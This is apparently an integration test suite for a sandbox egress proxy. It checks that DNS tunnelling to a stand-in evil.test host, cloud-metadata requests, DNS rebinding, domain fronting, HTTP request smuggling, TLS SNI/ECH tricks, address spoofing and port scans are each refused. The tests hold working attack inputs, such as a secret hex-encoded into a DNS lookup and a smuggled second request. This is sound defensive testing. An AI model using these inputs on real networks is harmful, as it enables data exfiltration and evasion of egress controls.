/** Egress on real parts: the proxy, the gate's rules, real clients, and each network attack of the threat table. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Presets } from '../../src/policy/policy.ts';
import { missingForRange, noPresets, type Player, Range } from './egress/range.ts';

const skip = missingForRange() ?? false;

describe('egress', { skip }, () => {
  const range = new Range();
  let player: Player;
  before(async () => {
    await range.open();
    player = await range.player();
  });
  after(() => range.close());

  const curl = (...args: string[]): ReturnType<Player['run']> =>
    player.run(['curl', '-sS', '-m', '10', '--noproxy', '*', ...args]);

  it('passes an allowed name over plain HTTP and untouched TLS, and tells the flow', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    const plain = await curl('http://www.world.test/a');
    assert.equal(plain.stdout, 'served www.world.test GET /a 0\n', plain.stderr);
    const secured = await curl('--cacert', range.worldCertificate, 'https://www.world.test/b');
    assert.equal(secured.stdout, 'served www.world.test GET /b 0\n', secured.stderr);
    const flow = await range.flow(player, 'www.world.test');
    assert.ok(flow.bytesReceived > 0 && flow.durationMs >= 0 && flow.rule === 'allow www.world.test');
  });

  /** HTTPS with a chosen way: returns curl's result. */
  const https = (url: string, ...args: string[]): ReturnType<Player['run']> =>
    curl('--cacert', range.worldCertificate, ...args, url);
  const inspected = (url: string, ...args: string[]): ReturnType<Player['run']> =>
    curl('--cacert', player.trust, ...args, url);
  const addressOf = async (name: string): Promise<string> =>
    (
      await player.python(`import socket; print(socket.gethostbyname(${JSON.stringify(name)}))`)
    ).stdout.trim();
  /** Sends bytes over TCP and prints what comes back as hex; for what no sound client would send. */
  const rawTcp = (host: string, port: number, hex: string): ReturnType<Player['run']> =>
    player.python(`
import socket
s = socket.create_connection((${JSON.stringify(host)}, ${port}), timeout=5)
s.sendall(bytes.fromhex("${hex}"))
out = b""
try:
  while True:
    part = s.recv(4096)
    if not part: break
    out += part
except Exception as error: print(type(error).__name__)
print(out.hex())`);
  const seen = (fits: (entry: Record<string, unknown>) => boolean): boolean => range.arrived.some(fits);

  it('DNS tunnel: names outside of the policy are NXDOMAIN at once, with an event, and nobody outside hears of them', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    const secret = Buffer.from('top secret').toString('hex');
    const since = range.events.length;
    const startedAt = performance.now();
    const looked = await player.python(`
import socket
try: socket.gethostbyname("${secret}.evil.test")
except socket.gaierror as error: print(error.errno)`);
    assert.equal(looked.stdout, '-2\n');
    assert.ok(performance.now() - startedAt < 3000);
    const denial = await range.denial(player, 'name_not_allowed', since);
    assert.equal(denial.host, `${secret}.evil.test`);
    assert.ok(!seen(({ kind, name }) => kind === 'dns' && String(name).includes(secret)));
  });

  it('DNS tunnel below a wildcard: long names and many new names are refused, and none is looked up', async () => {
    await player.set([{ allow: [{ host: '*.world.test' }] }]);
    const since = range.events.length;
    const flood = await player.python(`
import socket
failed = 0
for number in range(500):
  try: socket.gethostbyname("x%d.world.test" % number)
  except socket.gaierror: failed += 1
try: socket.gethostbyname("a" * 60 + "." + "b" * 60 + ".world.test")
except socket.gaierror: print("long refused")
print(failed)`);
    const [long, failed] = flood.stdout.trim().split('\n');
    assert.equal(long, 'long refused');
    assert.ok(Number(failed) > 100, flood.stdout);
    await range.denial(player, 'rate_limited', since);
    assert.ok(!seen(({ kind, name }) => kind === 'dns' && /^x\d+\./.test(String(name))));
  });

  it('AAAA, HTTPS and SVCB queries of an allowed name are empty: no IPv6, no key for ECH', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    const asked = await player.python(`
import socket
for kind in (28, 65, 64, 16):
  q = b"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03www\\x05world\\x04test\\x00" + kind.to_bytes(2, "big") + b"\\x00\\x01"
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
  s.sendto(q, ("198.18.0.1", 53)); a = s.recv(512); print(a[3] & 15, a[6] * 256 + a[7])`);
    assert.equal(asked.stdout, '0 0\n'.repeat(4));
  });

  for (const [name, attack] of [
    ['metadata.test', 'metadata v4 behind an allowed name'],
    ['metadata6.test', 'metadata v6 behind an allowed name'],
    ['loopback.test', 'loopback behind an allowed name'],
    ['private.test', 'a private address behind an allowed name'],
    ['proxy-host.test', 'the host’s own address behind an allowed name'],
    ['mapped.test', 'IPv4 mapped into IPv6 behind an allowed name'],
    ['nat64.test', 'NAT64 behind an allowed name'],
  ] as const) {
    it(`${attack}: refused by the address that the proxy resolved`, async () => {
      await player.set([{ allow: [{ host: name }] }]);
      const since = range.events.length;
      const answer = await curl(`http://${name}/`);
      assert.equal(JSON.parse(answer.stdout).code, 'address_private', answer.stdout + answer.stderr);
      await range.denial(player, 'address_private', since);
    });
  }

  it('DNS rebinding: each address is checked when it is used, not when it is first seen', async () => {
    await player.set([{ allow: [{ host: 'rebind.test' }] }]);
    const first = await curl('http://rebind.test/');
    assert.match(first.stdout, /^served/);
    await new Promise((resolve) => setTimeout(resolve, 10_500)); // what was looked up is kept for 10 s
    const second = await curl('http://rebind.test/');
    assert.equal(JSON.parse(second.stdout).code, 'address_private');
  });

  it('a private network opens by an administrator’s rule alone, by name and by address', async () => {
    const policy = {
      allow: [
        { host: 'private.test', allowPrivate: true },
        { cidr: '10.77.0.0/16', ports: [5432], allowPrivate: true },
      ],
    };
    await player.set([policy], { administrator: true });
    assert.match((await curl('http://private.test/')).stdout, /^served private.test/);
    assert.equal((await rawEcho('10.77.0.1', 5432)).stdout, 'ping\n');
    await assert.rejects(player.set([policy]), { code: 'forbidden' });
  });

  it('a preset opens the operator’s own mirror on a private address; a rule that names it does not', async () => {
    const mirror = (host: string): Presets => ({ ...noPresets, apt: [{ host, port: 80, isPrivate: true }] });
    const presets = mirror('private.test');
    await player.set([{ allow: [{ preset: 'apt' }] }], { presets });
    assert.match((await curl('http://private.test/')).stdout, /^served private.test/);
    const refused = async (url: string): Promise<void> => {
      const answer = await curl(url);
      assert.equal(JSON.parse(answer.stdout).code, 'address_private', answer.stdout + answer.stderr);
    };
    await player.set([{ allow: [{ host: 'private.test' }] }], { presets });
    await refused('http://private.test/');
    await player.set([{ allow: [{ preset: 'apt' }, { host: 'proxy-host.test' }] }], { presets });
    await refused('http://proxy-host.test/');
    for (const never of ['metadata.test', 'loopback.test', 'metadata6.test']) {
      await player.set([{ allow: [{ preset: 'apt' }] }], { presets: mirror(never) });
      await refused(`http://${never}/`);
    }
  });
  const rawEcho = (host: string, port: number): ReturnType<Player['run']> =>
    player.python(`
import socket
s = socket.create_connection((${JSON.stringify(host)}, ${port}), timeout=5)
s.sendall(b"ping"); s.settimeout(5)
print(s.recv(10).decode())`);

  it('shared-IP neighbour: another name on the same server is refused, on TLS and on HTTP', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    const address = await addressOf('www.world.test');
    const since = range.events.length;
    const overTls = await https('https://neighbour.test/', '--resolve', `neighbour.test:443:${address}`);
    assert.notEqual(overTls.code, 0);
    assert.match(overTls.stderr, /alert|unrecognized/i);
    await range.denial(player, 'host_mismatch', since);
    const plain = await curl('--resolve', `neighbour.test:80:${address}`, 'http://neighbour.test/');
    assert.equal(JSON.parse(plain.stdout).code, 'host_mismatch');
    const direct = await curl('--resolve', 'neighbour.test:80:5.5.1.1', 'http://neighbour.test/');
    assert.equal(JSON.parse(direct.stdout).code, 'address_not_allowed');
    assert.ok(!seen(({ host, sni }) => host === 'neighbour.test' || sni === 'neighbour.test'));
  });

  it('domain fronting in HTTP/1.1: SNI and connection agree, Host does not: 421', async () => {
    await player.set([{ allow: [{ host: 'front.world.test', inspect: true }] }]);
    for (const args of [
      ['-H', 'Host: evil.test'],
      ['--request-target', 'https://evil.test/'],
      ['-H', 'Host: front.world.test:444'],
      ['-H', 'Host: front.world.test\u00a0'],
    ]) {
      const answer = await inspected('https://front.world.test/', '--http1.1', '-w', '%{http_code}', ...args);
      assert.match(answer.stdout, /421$|400$/, `${args.join(' ')} ${answer.stdout}${answer.stderr}`);
    }
    const plain = await curl('-H', 'Host: evil.test', 'http://front.world.test/');
    assert.equal(JSON.parse(plain.stdout).code, 'host_mismatch');
    assert.ok(!seen(({ host }) => host === 'evil.test'));
  });

  it('domain fronting in HTTP/2: :authority is judged, and h2c is no way around it', async () => {
    await player.set([{ allow: [{ host: 'front.world.test', paths: ['/ok'] }] }]);
    const args = ['--http2', '-w', '%{http_version} %{http_code}', '-o', '/dev/null'];
    const agreed = await inspected('https://front.world.test/ok', ...args);
    assert.equal(agreed.stdout, '2 200', agreed.stderr);
    const fronted = await inspected('https://front.world.test/ok', ...args, '-H', 'Host: evil.test');
    assert.equal(fronted.stdout, '2 421', fronted.stderr);
    const upgraded = await inspected('http://front.world.test/ok', ...args);
    assert.equal(upgraded.stdout, '1.1 200', upgraded.stderr);
    assert.ok(!seen(({ upgrade }) => upgrade !== undefined));
    const known = await curl('--http2-prior-knowledge', 'http://front.world.test/ok');
    assert.notEqual(known.code, 0);
  });

  it('request smuggling: two lengths or a bare line feed do not get through', async () => {
    await player.set([{ allow: [{ host: 'front.world.test' }] }]);
    const request =
      'POST / HTTP/1.1\r\nHost: front.world.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n';
    await rawTcp('front.world.test', 80, Buffer.from(request).toString('hex'));
    assert.ok(!seen(({ url, host }) => url === '/smuggled' || host === 'evil.test'));
  });

  it('ECH, a missing SNI and an address as SNI: a TLS alert and an event with a hint', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    const address = await addressOf('www.world.test');
    const since = range.events.length;
    const bare = await player.python(`
import socket, ssl
context = ssl._create_unverified_context()
try: context.wrap_socket(socket.create_connection(("${address}", 443), timeout=5))
except ssl.SSLError as error: print(error.reason)`);
    assert.match(bare.stdout, /ALERT_ACCESS_DENIED/);
    assert.match((await range.denial(player, 'tls_refused', since)).hint, /SNI\) is missing/);
    const hello = await player.python(`
import ssl
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
wrapped = ssl._create_unverified_context().wrap_bio(incoming, outgoing, server_hostname="www.world.test")
try: wrapped.do_handshake()
except ssl.SSLWantReadError: pass
print(outgoing.read().hex())`);
    const later = range.events.length;
    const refused = await rawTcp(
      address,
      443,
      withEch(Buffer.from(hello.stdout.trim(), 'hex')).toString('hex'),
    );
    assert.equal(refused.stdout.trim().split('\n').at(-1), '15030100020231');
    assert.match((await range.denial(player, 'tls_refused', later)).hint, /ECH/);
  });

  it('SNI changed in the second ClientHello, after a HelloRetryRequest: refused; an honest second one passes', async () => {
    await player.set([{ allow: [{ host: 'www.world.test', ports: [8443] }] }]);
    const honest = await https('https://www.world.test:8443/again', '--curves', 'X25519:P-384');
    assert.match(honest.stdout, /^served www.world.test:8443 GET \/again/, honest.stderr);
    const since = range.events.length;
    const attack = await player.python(`
import socket, ssl
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
wrapped = ssl._create_unverified_context().wrap_bio(incoming, outgoing, server_hostname="www.world.test")
try: wrapped.do_handshake()
except ssl.SSLWantReadError: pass
hello = outgoing.read()
s = socket.create_connection(("www.world.test", 8443), timeout=5)
s.sendall(hello + hello.replace(b"www.world.test", b"vip.world.test"))
out = b""
while True:
  part = s.recv(4096)
  if not part: break
  out += part
print(out[5], out[-7:].hex())`);
    assert.equal(attack.stdout, '2 15030100020231\n', attack.stderr);
    assert.match((await range.denial(player, 'tls_refused', since)).hint, /second ClientHello/);
    assert.ok(!seen(({ sni }) => sni === 'vip.world.test'));
  });

  it('DoH and DoT and another resolver: no host, no port, no UDP', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    const since = range.events.length;
    const doh = await https('https://www.world.test/', '--doh-url', 'https://doh.test/dns-query');
    assert.notEqual(doh.code, 0);
    const asked = await player.python(`
import socket
for port in (53, 853):
  try: socket.create_connection(("5.5.0.2", port), timeout=3); print("open")
  except OSError as error: print(error.errno)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(("5.5.0.2", 53))
try: s.send(b"x"); s.recv(10); print("answered")
except OSError as error: print("refused")`);
    assert.equal(asked.stdout, '111\n111\nrefused\n');
    await range.tellRefusals();
    await range.denial(player, 'name_not_allowed', since);
    await range.denial(player, 'port_not_allowed', since);
    await range.denial(player, 'protocol_not_allowed', since);
  });

  it('QUIC: UDP 443 to an allowed name is refused at once and told', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    const since = range.events.length;
    const sent = await player.python(`
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(("www.world.test", 443))
try: s.send(b"x" * 1200); s.recv(10); print("answered")
except OSError as error: print("refused")`);
    assert.equal(sent.stdout, 'refused\n');
    await range.tellRefusals();
    assert.equal((await range.denial(player, 'protocol_not_allowed', since)).host, 'www.world.test');
    assert.ok(!seen(({ kind }) => kind === 'udp'));
  });

  it('null-byte, IDNA and octal hosts in DNS and in Host: no way around the one canonical form', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    const asked = await player.python(`
import socket
def ask(labels):
  q = b"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(l)]) + l for l in labels) + b"\\x00\\x00\\x01\\x00\\x01"
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
  s.sendto(q, ("198.18.0.1", 53)); a = s.recv(512); return a[3] & 15, a[7]
for labels in ([b"evil\\x00", b"world", b"test"], [b"www.world", b"test"], ["ｗww".encode(), b"world", b"test"], [b"0177", b"0", b"0", b"1"], [b"WWW", b"World", b"TEST"]):
  print(*ask(labels))`);
    assert.equal(asked.stdout, '3 0\n3 0\n3 0\n3 0\n0 1\n', asked.stderr);
    for (const host of [
      'www.world.test\u0000.evil.test',
      '0177.0.0.1',
      '0x7f000001',
      'www.world.test.evil.test',
      'x@www.world.test',
    ]) {
      const request = `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
      const answer = await rawTcp('www.world.test', 80, Buffer.from(request).toString('hex'));
      const text = Buffer.from(answer.stdout.trim().split('\n').at(-1) ?? '', 'hex').toString();
      assert.match(text, /^HTTP\/1\.1 (421|400)/, JSON.stringify(host) + answer.stdout);
    }
  });

  it('metadata v4, link-local and private addresses asked for directly: refused, whatever a rule says', async () => {
    await player.set([{ allow: [{ cidr: '0.0.0.0/0', ports: [80], allowPrivate: true }] }], {
      administrator: true,
    });
    const since = range.events.length;
    assert.equal((await curl('http://169.254.169.254/latest/meta-data/')).code, 7);
    await range.tellRefusals();
    assert.equal((await range.denial(player, 'address_not_allowed', since)).host, '169.254.169.254');
    const six = await curl('-g', 'http://[fd00:ec2::254]/');
    const mapped = await curl('-g', 'http://[::ffff:169.254.169.254]/');
    assert.ok(six.code !== 0 && mapped.code !== 0);
    assert.ok(!seen(({ host }) => /254/.test(String(host))));
  });

  it('mail and mining ports: closed for everybody but an administrator’s rule', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    const since = range.events.length;
    const tried = await player.python(`
import socket
for port in (25, 3333):
  try: socket.create_connection(("www.world.test", port), timeout=3); print("open")
  except OSError as error: print(error.errno)`);
    assert.equal(tried.stdout, '111\n111\n');
    await range.tellRefusals();
    assert.equal((await range.denial(player, 'port_not_allowed', since)).rule, 'built-in denial');
  });

  it('two sandboxes scanning each other reach nothing, and neither speaks with the other’s address', async () => {
    const other = await range.player();
    await other.set([{ allow: [{ host: 'www.world.test' }] }]);
    await player.set([]);
    const listening = other.python(
      'import http.server; http.server.HTTPServer(("0.0.0.0", 80), http.server.BaseHTTPRequestHandler).serve_forever()',
      4000,
    );
    const scan = await player.python(
      `
import socket
for host in ("${other.link.sandboxAddress}", "${other.link.gateAddress}", "${player.link.gateAddress}"):
  for port in (22, 53, 80, 443, 8080):
    try: socket.create_connection((host, port), timeout=1); print("open", host, port)
    except OSError: pass
print("end")`,
      30_000,
    );
    assert.equal(scan.stdout, 'end\n');
    const since = range.events.length;
    await player.run(['ip', 'addr', 'add', `${other.link.sandboxAddress}/32`, 'dev', 'lo']);
    const spoof = await player.python(`
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("${other.link.sandboxAddress}", 0)); s.settimeout(1)
s.sendto(b"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01", ("198.18.0.1", 53))
try: s.recv(512); print("answered")
except OSError: print("silence")`);
    assert.equal(spoof.stdout, 'silence\n');
    assert.ok(!range.events.slice(since).some((event) => event.sandboxId === other.id));
    await player.run(['ip', 'addr', 'del', `${other.link.sandboxAddress}/32`, 'dev', 'lo']);
    await listening;
  });

  it('closed by default: a scan with the empty policy leaves not one packet; the same capture sees an allowed one', async () => {
    const fresh = await range.player();
    await fresh.set([]);
    const scanned = `
import socket, os
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
  for host in ("5.5.1.1", "5.5.0.1", "5.5.0.2", "10.77.0.1", "169.254.169.254", "198.18.7.7", "8.8.8.8", "224.0.0.1", "255.255.255.255", "127.0.0.1"):
    for port in (22, 25, 53, 80, 123, 443, 853, 5432, 8080):
      s = socket.socket(socket.AF_INET, kind); s.settimeout(0.3)
      try:
        s.connect((host, port)); s.send(b"probe"); s.recv(1)
      except OSError: pass
      s.close()
for host in ("2001:db8::1", "fe80::1", "ff02::1", "fd00:ec2::254"):
  for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    s = socket.socket(socket.AF_INET6, kind); s.settimeout(0.2)
    try: s.connect((host, 80)); s.send(b"probe")
    except OSError: pass
for name in ("www.world.test", "secret.evil.test"):
  try: socket.gethostbyname(name)
  except OSError: pass
p = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for host in ("5.5.1.1", "8.8.8.8"): p.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", (host, 0))
g = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
g.sendto(b"\\0" * 20, ("5.5.1.1", 0))
`;
    const stopHost = await range.capture(range.host, 'any', ['not', 'arp']);
    const stopWorld = await range.capture(range.world, 'any', ['not', 'arp']);
    const ran = await fresh.python(scanned, 120_000);
    assert.equal(ran.code, 0, ran.stderr);
    const ping = (lines: string[]): string[] => lines.filter((line) => !/ICMP6|IP6 fe80/.test(line));
    assert.deepEqual(ping(await stopHost()), []);
    assert.deepEqual(ping(await stopWorld()), []);
    await fresh.set([{ allow: [{ host: 'www.world.test' }] }]);
    const control = await range.capture(range.world, 'any', ['tcp', 'port', '80']);
    await fresh.run(['curl', '-sS', '-m', '5', 'http://www.world.test/']);
    assert.ok((await control()).length > 0);
  });

  it('proxy killed: everything is refused at once; with a new one the policy is back by itself', async () => {
    await player.set([{ allow: [{ host: 'www.world.test' }] }]);
    assert.match((await curl('http://www.world.test/')).stdout, /^served/);
    const address = await addressOf('www.world.test');
    range.proxy?.kill('SIGKILL');
    await new Promise((resolve) => setTimeout(resolve, 500));
    const capture = await range.capture(range.host, 'any', ['not', 'arp']);
    const dead = await curl('--resolve', `www.world.test:80:${address}`, 'http://www.world.test/');
    assert.equal(dead.code, 7, dead.stderr);
    assert.notEqual((await curl('-m', '3', 'http://www.world.test/')).code, 0);
    assert.deepEqual(
      (await capture()).filter((line) => !/ICMP6|IP6 fe80/.test(line)),
      [],
    );
    await range.startProxy();
    for (let round = 0; round < 50; round += 1) {
      const back = await curl('--resolve', `www.world.test:80:${address}`, 'http://www.world.test/');
      if (back.stdout.startsWith('served')) return;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    assert.fail('the policy did not come back');
  });
});

/** Adds the extension of an encrypted ClientHello to a real one. */
function withEch(hello: Buffer): Buffer {
  const data = Buffer.alloc(12, 1);
  let at = 5 + 4 + 2 + 32;
  at += 1 + (hello[at] ?? 0);
  at += 2 + hello.readUInt16BE(at);
  at += 1 + (hello[at] ?? 0);
  const made = Buffer.concat([hello, Buffer.from([0xfe, 0x0d, 0, data.length]), data]);
  made.writeUInt16BE(made.readUInt16BE(at) + data.length + 4, at);
  made.writeUIntBE(made.readUIntBE(6, 3) + data.length + 4, 6, 3);
  made.writeUInt16BE(made.readUInt16BE(3) + data.length + 4, 3);
  return made;
}
